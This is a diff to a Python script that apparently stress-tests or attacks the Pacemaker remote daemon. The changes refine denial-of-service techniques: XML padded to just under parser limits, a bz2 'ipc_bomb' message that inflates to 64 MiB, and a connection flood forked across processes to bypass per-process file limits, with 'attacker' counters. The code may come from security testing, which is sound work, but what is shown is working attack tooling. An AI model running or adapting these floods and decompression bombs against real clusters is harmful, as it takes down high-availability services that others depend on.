@@ -81,12 +81,29 @@ def exec_op(msg_id, rsc, action, timeout, start_delay='0'):
                          % (rsc, action, timeout, start_delay, timeout)), msg_id)
 
 
+def padded(head, total_with_nul):
+    """head + '>' + children <p v="AAA..."/> + the closing tag, exactly total_with_nul - 1 bytes
+    long: well-formed XML that parsers accept (libxml2 refuses a single construct, such as one
+    start tag, over 10,000,000 bytes), whatever its size."""
+    name = head[1:head.index(b' ')]
+    close = b'</' + name + b'>'
+    rest = total_with_nul - 1 - len(head) - 1 - len(close)
+    parts = [head, b'>']
+    while rest > 0:
+        if rest < 12:                          # too little room for one more child: pad with text
+            parts.append(b' ' * rest)
+            break
+        value = min(MIB, rest - 9)
+        parts.append(b'<p v="' + b'A' * value + b'"/>')
+        rest -= value + 9
+    parts.append(close)
+    return b''.join(parts)
+
+
 def padded_poke(total_with_nul):
-    """A poke whose text (NUL included) is exactly total_with_nul bytes, padded in one attribute."""
-    head = b'<lrmd_command t="lrmd" lrmd_op="lrmd_rsc_poke" lrmd_remote_msg_id="2" ' \
-           b'lrmd_remote_msg_type="request" lrmd_timeout="0" pad="'
-    tail = b'"/>'
-    return head + b'A' * (total_with_nul - 1 - len(head) - len(tail)) + tail
+    """A poke whose text (NUL included) is exactly total_with_nul bytes."""
+    return padded(b'<lrmd_command t="lrmd" lrmd_op="lrmd_rsc_poke" lrmd_remote_msg_id="2" '
+                  b'lrmd_remote_msg_type="request" lrmd_timeout="0"', total_with_nul)
 
 
 def many_attributes(elements, per_element):
@@ -142,9 +159,7 @@ def ipc_bomb():
     """libqb message, Pacemaker 2.1 dialect: {id, size, error} 8-aligned, then size_uncompressed@24,
     size_compressed@28, flags@32 (0x1 = compressed), version@36; the register text inflates to
     exactly 64 MiB (NUL included)."""
-    head = b'<lrmd_command t="lrmd" lrmd_op="register" lrmd_clientname="stress" pad="'
-    tail = b'"/>'
-    text = head + b'A' * (MAX_MESSAGE - 1 - len(head) - len(tail)) + tail + b'\0'
+    text = padded(b'<lrmd_command t="lrmd" lrmd_op="register" lrmd_clientname="stress"', MAX_MESSAGE) + b'\0'
     z = bz2.compress(text, 9)
     total = 40 + len(z)
     hdr = struct.pack('<i4xi4xi4xIIIB3x', 1, total, 0, len(text), len(z), 0x1, 1)
@@ -174,13 +189,45 @@ def new_socket(src):
 
 
 def flood(args):
-    """rate new connections per second for `seconds`; each is held (never written to) until the
-    peer closes it or `hold` seconds pass."""
+    """rate new connections per second for `seconds`, spread over `procs` processes (each has
+    its own file limit); each connection is held (never written to) until the peer closes it or
+    `hold` seconds pass. Prints the sums of the processes' counts."""
+    import json
+    import os
     raise_fd_limit()
+    procs = max(1, args.procs)
+    args.rate = args.rate / procs
+    children = []
+    for _ in range(procs):
+        r, w = os.pipe()
+        pid = os.fork()
+        if pid == 0:
+            os.close(r)
+            stats = flood_one(args)
+            os.write(w, json.dumps(stats).encode())
+            os._exit(0)
+        os.close(w)
+        children.append((pid, r))
+    total = {}
+    for pid, r in children:
+        data = b''
+        while True:
+            chunk = os.read(r, 65536)
+            if not chunk:
+                break
+            data += chunk
+        os.waitpid(pid, 0)
+        for k, v in (json.loads(data) if data else {'failed_processes': 1}).items():
+            total[k] = max(total.get(k, 0), v) if k == 'elapsed_s' else total.get(k, 0) + v
+    for k, v in total.items():
+        print('%s=%s' % (k, v))
+
+
+def flood_one(args):
     sel = selectors.DefaultSelector()
     opened = {}            # fd -> (socket, opened at, connected?)
     stats = dict(attempted=0, connected=0, connect_failed=0, closed_by_peer=0, closed_by_us=0,
-                 socket_errors=0, max_open=0)
+                 socket_errors=0, attacker_fd_limit=0, max_open=0)
     start = time.monotonic()
     end = start + args.seconds
     while True:
@@ -195,8 +242,8 @@ def flood(args):
             try:
                 s = new_socket(args.src)
                 rc = s.connect_ex((args.dst, args.port))
-            except OSError:
-                stats['socket_errors'] += 1
+            except OSError as e:
+                stats['attacker_fd_limit' if e.errno == errno.EMFILE else 'socket_errors'] += 1
                 continue
             if rc not in (0, errno.EINPROGRESS):
                 stats['connect_failed'] += 1
@@ -235,8 +282,7 @@ def flood(args):
     for s, _, _ in opened.values():
         s.close()
     stats['elapsed_s'] = round(time.monotonic() - start, 1)
-    for k, v in stats.items():
-        print('%s=%s' % (k, v))
+    return stats
 
 
 # The first bytes of a TLS ClientHello: the daemon cannot tell a slow client from a slow network.
@@ -301,6 +347,7 @@ def main():
         q.add_argument('--seconds', type=float, default=20)
     fl.add_argument('--rate', type=int, default=2000)
     fl.add_argument('--hold', type=float, default=12)
+    fl.add_argument('--procs', type=int, default=2)
     h.add_argument('--mode', choices=('idle', 'slow'), required=True)
     h.add_argument('--count', type=int, default=3)
     sub.add_parser('kinds')
